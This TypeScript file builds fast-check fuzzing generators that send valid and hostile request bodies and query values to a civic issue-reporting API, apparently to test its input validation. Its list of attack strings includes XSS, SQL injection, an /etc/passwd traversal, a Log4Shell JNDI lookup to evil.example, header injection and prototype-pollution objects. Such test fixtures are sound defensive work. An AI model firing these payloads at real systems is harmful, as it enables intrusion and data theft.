import fc from 'fast-check';

/** The subset of JSON Schema `z.toJSONSchema` produces for the board's schemas. */
export interface JsonSchema {
  type?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  enum?: unknown[];
  anyOf?: JsonSchema[];
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
}

/** Values a field's name suggests, so that some generated requests get past validation to the domain. */
const HINTS: Record<string, fc.Arbitrary<unknown>> = {
  serviceCode: fc.constantFrom('pothole', 'street-light', 'blocked-drain', 'no-such-service'),
  to: fc.constantFrom('acknowledged', 'in_progress', 'closed', 'scheduled', 'referred', 'passed', 'resolved', 'duplicate'),
  lat: fc.double({ min: 51.4, max: 51.5, noNaN: true }),
  lng: fc.double({ min: -2.65, max: -2.55, noNaN: true }),
  assignee: fc.constantFrom('roads.officer', 'me', 'admin', 'nobody-here', null),
  url: fc.constantFrom('https://example.org/bill.pdf', 'http://example.org/a', 'javascript:alert(1)', 'data:text/html,<b>x</b>'),
  duplicateOf: fc.constantFrom('RF-0000000', '01HZZZZZZZZZZZZZZZZZZZZZZZ'),
};

/** Strings chosen to break things: controls, bidi overrides, lone surrogates, markup, injections, paths. */
export const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u202eevil\u202c',
  '\u200b\u200b\u200b',
  '\ud800',
  'x\udfffy',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE items; --",
  '../../../../etc/passwd',
  'javascript:alert(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%00%ff%fe',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '-1',
  '1e309',
  '\r\nX-Injected: 1',
  '🦄'.repeat(50),
  'ｅｘａｍｐｌｅ',
];

const huge = fc.integer({ min: 5_001, max: 60_000 }).map((n) => 'Z'.repeat(n));
const unicodeJunk = fc.string({ unit: 'binary', maxLength: 60 });
const nested = fc.integer({ min: 20, max: 2_000 }).map((depth) => JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`) as unknown);
const pollution = fc.constantFrom<unknown>(
  JSON.parse('{"__proto__":{"polluted":true}}'),
  JSON.parse('{"constructor":{"prototype":{"polluted":true}}}'),
);

/** A string a field should refuse or clean: junk, nasty, huge. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: unicodeJunk },
  { weight: 1, arbitrary: huge },
);

/** Any JSON value a field should refuse: wrong types, nulls, nesting, pollution keys, junk strings. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.constant([]),
  fc.constant({}),
  hostileString,
  nested,
  pollution,
  fc.jsonValue({ maxDepth: 3 }),
);

const iso = fc.date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((d) => d.toISOString());

function stringOf(schema: JsonSchema): fc.Arbitrary<string> {
  if (schema.format === 'date-time') return iso;
  if (schema.format === 'email') return fc.constantFrom('someone@example.org', 'a.b+c@demo-city.example', 'x@y.co');
  if (schema.format === 'uri') return HINTS.url as fc.Arbitrary<string>;
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern)).filter((s) => s.length <= (schema.maxLength ?? 300));
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 40, 60));
  return fc.oneof(
    fc.string({ minLength, maxLength }),
    fc.lorem({ maxCount: 6 }).filter((s) => s.length >= minLength && s.length <= maxLength),
  );
}

/** Values that satisfy the schema, or nearly: what a well-meaning client sends. */
export function validish(schema: JsonSchema, key?: string): fc.Arbitrary<unknown> {
  if (key && HINTS[key] && schema.type !== 'object' && schema.type !== 'array') return HINTS[key];
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((s) => validish(s, key)));
  switch (schema.type) {
    case 'object': {
      const props = Object.fromEntries(Object.entries(schema.properties ?? {}).map(([k, s]) => [k, validish(s, k)]));
      return fc.record(props, { requiredKeys: (schema.required ?? []).filter((k) => k in props) });
    }
    case 'array':
      return fc.array(validish(schema.items ?? {}), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 3, 3)),
      });
    case 'string':
      return stringOf(schema);
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1000, max: schema.maximum ?? 1000 });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

const EXTRA_KEYS = ['__proto__', 'constructor', 'prototype', 'descripton', 'isAdmin', 'version', 'id', 'kind', 'PK', ''];

/** Replaces the value at one (possibly nested) property of an object with `value`. */
function replaceAt(target: unknown, path: number[], value: unknown): unknown {
  if (typeof target !== 'object' || target === null || Array.isArray(target) || path.length === 0) return value;
  const keys = Object.keys(target);
  if (keys.length === 0) return value;
  const key = keys[(path[0] as number) % keys.length] as string;
  return { ...target, [key]: replaceAt((target as Record<string, unknown>)[key], path.slice(1), value) };
}

/** Adds an own property, even `__proto__`, as JSON.parse would make it. */
function withKey(target: unknown, key: string, value: unknown): unknown {
  if (typeof target !== 'object' || target === null || Array.isArray(target)) return target;
  const copy = { ...target } as Record<string, unknown>;
  Object.defineProperty(copy, key, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

/** A body for this schema: valid-ish, one field broken, an extra (polluting) key, or junk through and through. */
export function bodyValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  const valid = validish(schema);
  return fc.oneof(
    { weight: 3, arbitrary: valid },
    {
      weight: 4,
      arbitrary: fc.tuple(valid, fc.array(fc.nat(), { minLength: 1, maxLength: 3 }), hostileValue).map(([v, p, h]) => replaceAt(v, p, h)),
    },
    { weight: 2, arbitrary: fc.tuple(valid, fc.constantFrom(...EXTRA_KEYS), hostileValue).map(([v, k, h]) => withKey(v, k, h)) },
    { weight: 1, arbitrary: hostileValue },
  );
}

/** A query parameter's value as a client would put it in a URL: valid-ish, or (by default) sometimes hostile. */
export function queryValue(schema: JsonSchema, key: string, mode: 'valid' | 'mixed' = 'mixed'): fc.Arbitrary<string> {
  const asText = validish(schema, key).map((v) => (typeof v === 'string' ? v : (JSON.stringify(v) ?? '')));
  if (mode === 'valid') return asText;
  return fc.oneof({ weight: 3, arbitrary: asText }, { weight: 2, arbitrary: hostileString.filter((s) => s.length < 8_000) });
}
